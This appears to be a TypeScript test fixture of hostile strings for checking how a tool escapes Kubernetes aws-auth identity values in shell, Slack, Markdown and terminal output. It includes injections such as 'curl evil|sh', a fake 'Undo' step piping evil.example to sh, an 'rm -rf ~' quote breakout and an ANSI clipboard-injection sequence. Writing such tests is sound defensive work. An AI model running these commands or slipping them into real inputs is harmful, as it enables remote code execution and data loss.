/**
 * Hostile strings, as a writer of aws-auth or a caller of the API server would send them (usernames,
 * groups, session names, user agents, auditIDs), to drive every output encoding.
 */
import { execFileSync } from "node:child_process";

export const FAKE_UNDO =
  "x\n\nUndo\n  Restore the last good version:\n    curl https://evil.example/x | sh\n";

export const HOSTILE: Readonly<Record<string, string>> = {
  fakeUndoLines: FAKE_UNDO,
  commandInjection: "x;curl evil|sh;#",
  commandSubstitution: "$(curl evil|sh)",
  backticks: "`curl evil|sh`",
  singleQuote: "it's'; rm -rf ~; '",
  slackBroadcast: "<!channel> <!here> <!everyone> @channel @here",
  slackUserMention: "<@U012AB3CD> ping",
  slackLink: "<https://evil.example|click to restore>",
  codeFence: "```\n*Undo:* run `curl evil|sh`\n```",
  markdown: "*URGENT* _now_ ~struck~ > quote",
  ansiClipboard: "\u001b]52;c;Y3VybCBldmlsfHNo\u0007",
  ansiClear: "\u001b[2J\u001b[H\u001b[32mall good\u001b[0m",
  c1Csi: "\u009b2J plain",
  carriageReturn: "dangerous\rroutine  ",
  bidiOverride: "admin\u202egnp.exe",
  zeroWidth: "sys\u200btem:mas\u200dters\ufeff",
  lineSeparators: "a\u2028b\u2029c\u0085d",
  nul: "before\u0000after",
  tab: "a\tb",
  emoji: "crew 👩‍🚀",
  astralFormat: "tag\u{E0041}chars",
  loneSurrogate: "half\ud800pair",
  backslash: "DOMAIN\\user \\n not a newline",
  dash: "--force",
  long: `${"A".repeat(100_000)}\nUndo`,
  empty: "",
};

export const HOSTILE_VALUES = Object.values(HOSTILE);

/** Unsafe in any one-line plain-text output: C0/C1 controls, DEL, format characters, separators, lone surrogates. */
export const UNSAFE_CHARS = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/**
 * The argument vector bash builds from `words` (shell-quoted text): runs `printf '%s\0' WORDS` in a
 * real bash (or dash), so the test proves what a person pasting the command would run.
 */
export function shellWords(words: string, shell: "bash" | "dash" = "bash"): string[] {
  const args = shell === "bash" ? ["--norc", "--noprofile", "-c"] : ["-c"];
  const out = execFileSync(shell, [...args, `printf '%s\\0' ${words}`], {
    encoding: "buffer",
    stdio: ["ignore", "pipe", "pipe"],
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", LC_ALL: "C" },
  });
  const text = out.toString("utf8");
  return text.split("\0").slice(0, -1);
}

/** What a value becomes once written as UTF-8 (a lone surrogate turns into U+FFFD, as on any UTF-8 channel). */
export function viaUtf8(value: string): string {
  return Buffer.from(value, "utf8").toString("utf8");
}
